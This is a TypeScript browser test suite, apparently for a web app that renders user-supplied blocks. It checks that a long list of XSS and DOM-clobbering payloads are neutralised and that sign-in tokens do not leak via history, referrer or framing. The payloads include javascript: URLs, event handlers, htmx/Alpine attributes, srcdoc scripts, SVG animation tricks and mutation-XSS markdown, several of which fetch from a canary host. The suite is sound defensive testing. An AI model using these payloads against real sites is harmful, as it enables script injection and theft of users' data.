import assert from "node:assert/strict";
import type { BlockId } from "../../domain/ids.ts";
import { checkTree } from "../../rendering/check_tree.ts";
import { startCanary } from "../canary.ts";
import { topStories } from "../sites/hacker_news.ts";
import { givenReadyBlock } from "../with_program.ts";
import { cardTitled, chooseInMenu, waitForWords } from "./cards.ts";
import { openTab, type Tab } from "./open_tab.ts";
import type { ServedProgram } from "./serve_program.ts";
import { type Lab, testInBrowser } from "./with_browser.ts";

testInBrowser("a hostile block", {
  "does nothing on its card, on its page or under the pointer (attacks 100 to 118)": (lab) =>
    withHostileCard(lab, hostileTree, async (tab, id) => {
      const body = tab.page.locator(`#body-${id}`);
      await waitForWords(body, "click me");
      for (const words of ["click me", "data page", "htmx", "alpine", "styled"]) {
        const target = body.getByText(words, { exact: true }).first();
        await target.hover();
        await target.click();
      }
      assert.equal(
        await body.locator("form, iframe, object, embed, meta, base, link, style, script").count(),
        0,
      );
      assert.deepEqual(await listAttributes(tab), []);
      await tab.page.goto(`${new URL(tab.page.url()).origin}/blocks/${id}`);
      await tab.page.getByText("click me").first().click();
    }),
  "cannot take the names that the page works with (attack 110)": (lab) =>
    withHostileCard(lab, clobberingTree, async ({ page }, id, program) => {
      await waitForWords(page.locator(`#body-${id}`), "clobber");
      assert.deepEqual(
        await page.evaluate(() => [
          document.querySelectorAll("#grid").length,
          typeof document.cookie,
          typeof document.getElementById,
          document.querySelectorAll("#announcer").length,
        ]),
        [1, "string", "function", 1],
      );
      program.clock.now += 6 * 3_600_000;
      await chooseInMenu(cardTitled(page, "Hacker News"), "Refresh now");
      const [story] = topStories(program.clock.now, 1);
      await waitForWords(cardTitled(page, "Hacker News").locator(".card-body"), story?.title ?? "none");
    }),
});

/** A block that holds what a hostile view made, as the program lets it through. */
async function withHostileCard(
  { browser, serve }: Lab,
  makeTree: (canary: string) => unknown,
  work: (tab: Tab, id: BlockId, program: ServedProgram) => Promise<void>,
): Promise<void> {
  const canary = startCanary();
  try {
    await serve(async (program) => {
      const id = await givenReadyBlock(program, "Countdown to 24 December 2030");
      await givenReadyBlock(program, "Top 10 Hacker News stories");
      const checked = checkTree(makeTree(canary.origin));
      assert.ok(checked.kind === "ok", JSON.stringify(checked));
      await program.db.execute("UPDATE block_data SET tree = ? WHERE block_id = ?", [
        JSON.stringify(checked.tree),
        id,
      ]);
      const tab = await openTab(browser, program);
      await work(tab, id, program);
      assert.deepEqual(canary.hits, []);
      assert.equal(tab.context.pages().length, 1);
      assert.notEqual(await tab.page.title(), "owned");
      assert.equal(new URL(tab.page.url()).origin, program.origin);
      tab.expectNoComplaints();
    });
  } finally {
    await canary.close();
  }
}

const OWN = "document.title='owned'";

function hostileTree(canary: string) {
  const script = `fetch('${canary}/js');${OWN}`;
  const element = (tag: string, attrs: Record<string, unknown> = {}, ...children: unknown[]) => ({
    tag,
    attrs,
    children,
  });
  return [
    ...[`javascript:${script}`, `jav\tascript:${script}`, `\u0001javascript:${script}`, `vbscript:x`].map((
      href,
    ) => element("a", { href, onclick: script, onmouseover: script }, "click me")),
    element("a", { href: `data:text/html,<script>${script}</script>` }, "data page"),
    element(
      "div",
      {
        "hx-get": `${canary}/hx`,
        "hx-trigger": "load",
        "hx-on:click": script,
        "data-hx-post": `${canary}/dhx`,
      },
      "htmx",
    ),
    element(
      "div",
      {
        "x-data": "{}",
        "x-init": script,
        "x-html": script,
        "@click": script,
        ":href": script,
        "v-html": script,
      },
      "alpine",
    ),
    element(
      "p",
      { style: `background:url(${canary}/style)`, class: `bg-[url(${canary}/class)] fixed inset-0` },
      "styled",
    ),
    element("form", { action: `${canary}/form`, method: "post" }, element("input", { name: "password" })),
    element("button", { formaction: `${canary}/button`, form: "ask" }, "send"),
    ...["iframe", "embed", "frame", "portal", "img", "script", "audio", "video"].map((tag) =>
      element(tag, {
        src: `${canary}/${tag}`,
        srcset: `${canary}/set 1x`,
        srcdoc: `<script>${script}</script>`,
      })
    ),
    element("object", { data: `${canary}/object` }),
    element("link", { rel: "stylesheet", href: `${canary}/link` }),
    element("meta", { "http-equiv": "refresh", content: `0;url=${canary}/meta` }),
    element("base", { href: `${canary}/` }),
    element("style", {}, `@import url(${canary}/import); body { display: none }`),
    element(
      "svg",
      {},
      element("use", { href: `${canary}/use#x` }),
      element("image", { href: `${canary}/image`, "xlink:href": `${canary}/xlink` }),
      element("foreignObject", {}, element("iframe", { src: `${canary}/foreign` })),
      element("animate", { attributeName: "href", values: `javascript:${script}` }),
      element("set", { attributeName: "onclick", to: script }),
    ),
    element("chart-island", { props: `{"x":"</chart-island><script>${script}</script>"}` }),
    element("div", {
      "data-island": "chart_readout",
      "data-props": "{",
      "data-dialog": "",
      "data-copy": "grid",
    }, "x"),
    {
      ui: "Markdown",
      props: {
        source: `<img src=x onerror="${script}"> ![p](${canary}/md.png) [click me](javascript:${script})
<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math>
<svg></p><style><a id="</style><img src=x onerror=${OWN}>">`,
      },
    },
    { ui: "Image", props: { src: `data:image/svg+xml,<svg onload="${script}">`, alt: "drawing" } },
  ];
}

function clobberingTree() {
  const names = [
    "grid",
    "ask",
    "announcer",
    "toasts",
    "cookie",
    "getElementById",
    "__proto__",
    "body",
    "htmx",
  ];
  return [
    "clobber",
    ...names.flatMap((name) => [
      { tag: "a", attrs: { id: name, name, href: "https://example.org/" }, children: [name] },
      { tag: "img", attrs: { id: name, name, alt: name } },
    ]),
  ];
}

/** Attributes of the block's own elements that could act. */
function listAttributes({ page }: Tab): Promise<readonly string[]> {
  return page.locator(".card-body").first().evaluate((body) =>
    [...body.querySelectorAll("*")].flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) =>
          /^(on|hx-(?!ignore)|data-hx|x-(?!ignore)|@|:|v-|style$|srcdoc|formaction|data-(island|dialog|copy))/
            .test(name) ||
          /script:|canary|^data:text/i.test(value)
        )
        .map(({ name, value }) => `${element.tagName} ${name}=${value}`)
    )
  );
}

testInBrowser("what surrounds a sign-in", {
  "the token stands in no history and in no referrer afterwards (attack 133)": ({ browser, serve }: Lab) =>
    serve(async (program) => {
      const { page, expectNoComplaints } = await openTab(browser, program, { isSignedIn: false });
      const referrers: string[] = [];
      page.on("request", (request) => void referrers.push(request.headers()["referer"] ?? ""));
      await page.goto("about:blank");
      await page.goto(await program.createLink());
      await page.getByRole("link", { name: "Ready blocks" }).first().click();
      await page.getByRole("heading", { name: "Ready blocks" }).waitFor();
      await page.goBack();
      assert.equal(page.url(), `${program.origin}/`);
      await page.goBack();
      assert.equal(page.url(), "about:blank", "the link stands in the history");
      assert.deepEqual(referrers.filter((referrer) => referrer.includes("token")), []);
      expectNoComplaints();
    }),
  "no other page may frame ours (attack 142)": async ({ browser, serve }: Lab) => {
    await serve(async (program) => {
      await givenReadyBlock(program, "Countdown to 24 December 2030");
      const stranger = startCanary(() =>
        new Response(`<!doctype html><title>stranger</title><iframe src="${program.origin}/"></iframe>`, {
          headers: { "content-type": "text/html" },
        })
      );
      try {
        const { page } = await openTab(browser, program);
        const isRefused = page.waitForEvent(
          "console",
          (message) => /frame-ancestors|X-Frame/i.test(message.text()),
        );
        await page.goto(stranger.origin);
        await isRefused;
        const frames = page.frames().filter((frame) => frame !== page.mainFrame());
        const words = await Promise.all(
          frames.map((frame) => frame.locator("body").innerText().catch(() => "")),
        );
        assert.ok(words.every((text) => !text.includes("Tessera")), words.join());
      } finally {
        await stranger.close();
      }
    });
  },
});
